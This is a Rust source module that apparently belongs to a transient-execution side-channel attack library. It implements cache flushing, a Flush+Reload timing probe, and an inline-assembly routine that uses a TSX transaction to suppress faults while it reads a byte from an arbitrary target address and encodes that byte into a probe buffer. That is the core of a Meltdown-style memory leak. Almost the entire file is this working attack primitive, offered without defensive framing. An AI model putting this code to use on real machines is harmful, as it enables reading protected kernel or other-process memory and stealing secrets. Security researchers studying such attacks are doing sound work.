use log::debug;
use spill_core::platform::{CacheFlusher, TimingProbe, TransientLeak};
use spill_core::util::PAGE_SHIFT;
use spill_core::{ProbeBuffer, RetryBound, TargetAddr};
use std::arch::asm;
use std::arch::x86_64::{__cpuid, __cpuid_count, _mm_clflush, _mm_lfence, _mm_mfence, _rdtsc};
use std::cell::Cell;
use thiserror::Error;

/// Value left in EAX when `xbegin` starts a transaction.
const XBEGIN_STARTED: u32 = !0;

/// CPUID.(EAX=07H, ECX=0):EBX bit advertising RTM
const CPUID_7_EBX_RTM: u32 = 1 << 11;

/// Errors that can occur when setting up the TSX platform.
#[derive(Debug, Error)]
pub enum TsxError {
    /// The CPU does not advertise restricted transactional memory.
    #[error("CPU does not support restricted transactional memory (RTM)")]
    Unsupported,
}

/// Returns `true` if the CPU advertises RTM.
#[allow(unused_unsafe)]
pub fn rtm_supported() -> bool {
    unsafe {
        if __cpuid(0).eax < 7 {
            return false;
        }
        __cpuid_count(7, 0).ebx & CPUID_7_EBX_RTM != 0
    }
}

/// x86_64 platform using `clflush`, `rdtsc` and an RTM region for fault suppression.
///
/// Counts started and aborted transactions, which helps to tell a quiet
/// channel from a CPU where every region aborts before the dependent load.
pub struct Tsx {
    transactions: Cell<u64>,
    aborts: Cell<u64>,
}

impl Tsx {
    /// Creates the platform after checking for RTM support.
    ///
    /// # Errors
    ///
    /// Returns [`TsxError::Unsupported`] if the CPU lacks RTM.
    pub fn new() -> Result<Self, TsxError> {
        if !rtm_supported() {
            return Err(TsxError::Unsupported);
        }
        debug!("RTM supported");
        Ok(unsafe { Self::new_unchecked() })
    }

    /// Creates the platform without checking for RTM support.
    ///
    /// # Safety
    ///
    /// Flushing and timing work on any x86_64 CPU, but a transient read on a
    /// CPU without RTM raises an invalid-opcode exception.
    pub unsafe fn new_unchecked() -> Self {
        Tsx {
            transactions: Cell::new(0),
            aborts: Cell::new(0),
        }
    }

    /// Number of transient reads attempted so far.
    pub fn transactions(&self) -> u64 {
        self.transactions.get()
    }

    /// Number of transient reads whose region aborted or failed to start.
    pub fn aborts(&self) -> u64 {
        self.aborts.get()
    }
}

impl CacheFlusher for Tsx {
    unsafe fn flush(&self, addr: *const u8) {
        unsafe {
            _mm_mfence();
            _mm_clflush(addr);
        }
    }
}

impl TimingProbe for Tsx {
    // See Yarom and Falkner, "Flush+Reload", Figure 4.
    unsafe fn probe(&self, addr: *const u8) -> u64 {
        unsafe {
            _mm_mfence();
            _mm_lfence();
            let start = _rdtsc();
            _mm_lfence();
            let _ = addr.read_volatile();
            _mm_lfence();
            let end = _rdtsc();
            _mm_clflush(addr);
            end.saturating_sub(start)
        }
    }
}

impl TransientLeak for Tsx {
    unsafe fn transient_read(
        &self,
        target: TargetAddr,
        buffer: &ProbeBuffer,
        retries: RetryBound,
    ) {
        let mut status: u32 = XBEGIN_STARTED;
        self.transactions.set(self.transactions.get() + 1);
        // On abort, execution resumes at label 2 with the abort status in EAX.
        unsafe {
            asm!(
                "xbegin 2f",
                "3:",
                "movzx {value:e}, byte ptr [{target}]",
                "shl {value}, {shift}",
                "jnz 4f",
                "dec {retries}",
                "jnz 3b",
                "jmp 5f",
                "4:",
                "mov {value}, qword ptr [{buffer} + {value}]",
                "5:",
                "xend",
                "2:",
                target = in(reg) target.as_usize(),
                buffer = in(reg) buffer.ptr(),
                retries = inout(reg) retries.get() => _,
                value = out(reg) _,
                shift = const PAGE_SHIFT,
                inout("eax") status,
                options(nostack),
            );
        }
        if status != XBEGIN_STARTED {
            self.aborts.set(self.aborts.get() + 1);
            unsafe { _mm_mfence() };
        }
    }
}
